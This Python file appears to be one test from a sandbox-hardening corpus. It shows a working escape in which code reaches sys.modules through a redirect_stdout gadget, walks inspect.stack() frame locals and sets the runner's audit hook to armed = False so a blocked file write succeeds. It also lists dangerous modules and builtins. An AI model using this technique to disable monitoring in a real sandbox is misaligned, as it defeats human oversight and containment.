# technique: with sys.modules (through the redirect_stdout gadget of 138), inspect.stack() returns the frames above the snippet (inspect's own sys._getframe call is trusted); inspect.getargvalues(frame)[3] is a frame's f_locals, where the runner's run() holds its _Audit instance: setting armed = False turns the audit hook off, and a file write the runtime refused a moment before goes through
# source: sandbox design flaw class: Python-level audit hook state reachable from sandboxed code (corpus 116/127), through trusted stdlib frame helpers
# note: the write goes to the child's private /tmp (the kernel layers still hold); it shows that the runtime layer is off

# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import contextlib


def old_target(self):
    return self._old_targets[-1]


class Redirect(contextlib.redirect_stdout):
    _stream = 'modules'


def modules():
    r = Redirect(None)
    with r:
        value = old_target(r)
    return value


def write_tmp():
    f = modules()['io'].FileIO('/tmp/ts-escaped', 'w')
    f.write(b'x')
    f.close()


def disarm():
    inspect = modules()['inspect']
    n = 0
    for info in inspect.stack():
        for v in list(inspect.getargvalues(info.frame)[3].values()):
            if type(v).__name__ == '_Audit':
                v.armed = False
                n += 1
    return n

attempt('inspect.stack()[0].frame', lambda: modules()['inspect'].stack()[0].frame)
try:
    write_tmp()
    refused_before = False
except BaseException as e:
    refused_before = True
    print('BLOCKED write before disarming:', type(e).__name__, str(e)[:120])
try:
    n = disarm()
    write_tmp()
    if refused_before and n:
        print('ESCAPED audit hook disarmed through frame locals: the refused write now succeeds')
    else:
        print('BLOCKED nothing to disarm (%d)' % n)
except BaseException as e:
    print('BLOCKED disarm:', type(e).__name__, str(e)[:160])
